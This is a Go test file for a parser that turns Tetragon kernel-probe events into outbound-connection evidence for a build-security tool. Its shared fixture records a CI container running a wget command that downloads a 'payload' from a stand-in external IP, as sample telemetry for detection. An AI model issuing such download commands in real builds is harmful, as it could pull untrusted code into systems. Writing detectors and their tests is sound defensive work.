package nodereport

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"buildguard.dev/buildguard/evidence"
)

// tetragonKprobeJSON is a process_kprobe event of fn with args (a JSON
// array's elements) by /usr/bin/wget in a pod's container.
func tetragonKprobeJSON(fn, args string) string {
	return `{"process_kprobe":{"process":{"exec_id":"d29ya2VyLTM6MTc5NTY4ODEwMzQwMTEyMjMzNDo0ODIxMw==","pid":48213,"uid":0,"cwd":"/",` +
		`"binary":"/usr/bin/wget","arguments":"-q http://203.0.113.9:8080/payload","flags":"execve clone","start_time":"2026-11-26T10:15:03.401122334Z",` +
		`"auid":4294967295,"pod":{"namespace":"ci","name":"runner-5d8f7","container":{"id":"containerd://6d381be6459ed1b24792d5a84343359c1452336d45b441b34c3cb16e2612360c",` +
		`"name":"runner"}},"docker":"6d381be6459ed1b24792d5a84343359","parent_exec_id":"cGFyZW50","tid":48213},"parent":{"exec_id":"cGFyZW50","pid":48100,"binary":"/bin/sh"},` +
		`"function_name":"` + fn + `","args":[` + args + `],"action":"KPROBE_ACTION_POST","policy_name":"monitor-network-activity-outside-cluster"},` +
		`"node_name":"worker-3","time":"2026-11-26T10:15:03.412907311Z"}`
}

func TestParseTetragon(t *testing.T) {
	const (
		execID = "d29ya2VyLTM6MTc5NTY4ODEwMzQwMTEyMjMzNDo0ODIxMw=="
		when   = "2026-11-26T10:15:03.412907311Z"
		cid    = "6d381be6459ed1b24792d5a84343359c1452336d45b441b34c3cb16e2612360c"
		sock   = `{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","mark":0,"priority":0,"saddr":"10.244.3.17","daddr":"203.0.113.9","sport":43210,"dport":8080,"cookie":"18446635827187264768","state":"TCP_SYN_SENT"}}`
	)
	wget := evidence.Connection{Source: "tetragon", EventID: execID + "/" + when, Node: "worker-3", Time: wantTime(when), Process: "wget", PID: 48213,
		Cmdline: "/usr/bin/wget -q http://203.0.113.9:8080/payload", ContainerID: cid, DestIP: wantIP("203.0.113.9"), DestPort: 8080}
	one := func(c evidence.Connection) Parsed {
		return Parsed{Report: evidence.Report{Node: "worker-3", Sensor: "tetragon", Connections: []evidence.Connection{c}}}
	}
	with := func(f func(*evidence.Connection)) evidence.Connection {
		c := wget
		f(&c)
		return c
	}
	ignored := Parsed{Report: evidence.Report{Sensor: "tetragon"}, Ignored: 1}
	failed := func(reason string) Parsed {
		return Parsed{Report: evidence.Report{Sensor: "tetragon"}, Errors: []ItemError{{0, reason}}}
	}
	noExecID := strings.Replace(tetragonKprobeJSON("tcp_connect", sock), `"exec_id":"`+execID+`",`, "", 1)
	noNode := strings.Replace(tetragonKprobeJSON("tcp_connect", sock), `"node_name":"worker-3",`, "", 1)
	for _, tc := range []struct {
		name string
		body string
		node string
		want Parsed
	}{
		{name: "tcp_connect", body: tetragonKprobeJSON("tcp_connect", sock), want: one(wget)},
		{name: "IPv4-mapped daddr", body: tetragonKprobeJSON("tcp_connect", strings.Replace(sock, `"203.0.113.9"`, `"::ffff:203.0.113.9"`, 1)), want: one(wget)},
		{name: "sys_connect with sockaddr_arg", body: tetragonKprobeJSON("__x64_sys_connect", `{"int_arg":5},{"sockaddr_arg":{"family":"AF_INET6","addr":"2001:db8::9","port":443}}`),
			want: one(with(func(c *evidence.Connection) { c.DestIP, c.DestPort = wantIP("2001:db8::9"), 443 }))},
		{name: "docker prefix without pod", body: strings.Replace(tetragonKprobeJSON("tcp_connect", sock), `"pod":{"namespace":"ci","name":"runner-5d8f7","container":{"id":"containerd://`+cid+`","name":"runner"}},`, "", 1),
			want: one(with(func(c *evidence.Connection) { c.ContainerID = "6d381be6459ed1b24792d5a84343359" }))},
		{name: "no exec_id", body: noExecID, want: one(with(func(c *evidence.Connection) { c.EventID = canonicalID("tetragon\n", []byte(noExecID)) }))},
		{name: "node from the request", body: noNode, node: "worker-3", want: one(wget)},
		{name: "unix socket", body: tetragonKprobeJSON("__sys_connect", `{"int_arg":5},{"sockaddr_arg":{"family":"AF_UNIX","addr":"/run/nscd/socket","port":0}}`), want: ignored},
		{name: "tcp_sendmsg", body: tetragonKprobeJSON("tcp_sendmsg", sock+`,{"int_arg":517}`), want: ignored},
		{name: "process_exec of docker build", body: `{"process_exec":{"process":{"exec_id":"eA==","pid":48090,"binary":"/usr/bin/docker","arguments":"build -t r/a:1 ."}},"node_name":"worker-3","time":"2026-11-26T10:14:58Z"}`, want: ignored},
		{name: "unknown event type with time", body: `{"process_future":{},"node_name":"worker-3","time":"2026-11-26T10:14:58Z"}`, want: ignored},
		{name: "not a Tetragon event", body: `{"hello":"world"}`, want: failed("not a Tetragon event: no event type and no time")},
		{name: "connect without a socket argument", body: tetragonKprobeJSON("tcp_connect", `{"int_arg":5}`),
			want: failed(`process_kprobe: "tcp_connect" without a sock_arg or sockaddr_arg (add one to the tracing policy)`)},
		{name: "no dport", body: tetragonKprobeJSON("tcp_connect", `{"sock_arg":{"family":"AF_INET","daddr":"203.0.113.9"}}`),
			want: failed("process_kprobe.args[0].sock_arg.dport: missing")},
		{name: "dport 0", body: tetragonKprobeJSON("tcp_connect", `{"sock_arg":{"family":"AF_INET","daddr":"203.0.113.9","dport":0}}`),
			want: failed("process_kprobe.args[0].sock_arg.dport: 0 is not a port (1..65535)")},
		{name: "bad daddr", body: tetragonKprobeJSON("tcp_connect", `{"sock_arg":{"family":"AF_INET","daddr":"203.0.113.256","dport":80}}`),
			want: failed(`process_kprobe.args[0].sock_arg.daddr: "203.0.113.256" is not an IP address`)},
		{name: "dport of the wrong type", body: tetragonKprobeJSON("tcp_connect", `{"sock_arg":{"family":"AF_INET","daddr":"203.0.113.9","dport":[80]}}`),
			want: failed(`process_kprobe.args[0].sock_arg.dport: want an integer, got "[80]"`)},
		{name: "negative pid", body: strings.Replace(tetragonKprobeJSON("tcp_connect", sock), `"pid":48213,"uid"`, `"pid":-1,"uid"`, 1),
			want: failed("process_kprobe.process.pid: -1 is not a process ID (0..4194304)")},
		{name: "future", body: strings.Replace(tetragonKprobeJSON("tcp_connect", sock), `"time":"2026-11-26T10:15:03.412907311Z"`, `"time":"2030-01-01T00:00:00Z"`, 1),
			want: failed("time: 2030-01-01T00:00:00Z is 27156h0m0s in the future (more than 24h0m0s)")},
		{name: "no node", body: noNode, want: failed("no node: the event names none and the request gave none")},
		{name: "process not an object", body: `{"process_kprobe":{"process":"wget","function_name":"tcp_connect"},"time":"2026-11-26T10:15:03Z"}`,
			want: failed("process_kprobe.process: want an object, got string")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ParseTetragon([]byte(tc.body), tc.node, parseTestClock())
			checkParsed(t, "tetragon", []byte(tc.body), got, err)
			if err != nil {
				t.Fatalf("ParseTetragon(%s) error: %v", tc.body, err)
			}
			if diff := cmp.Diff(tc.want, got, exact); diff != "" {
				t.Errorf("ParseTetragon(%s) (-want +got):\n%s", tc.body, diff)
			}
		})
	}
}
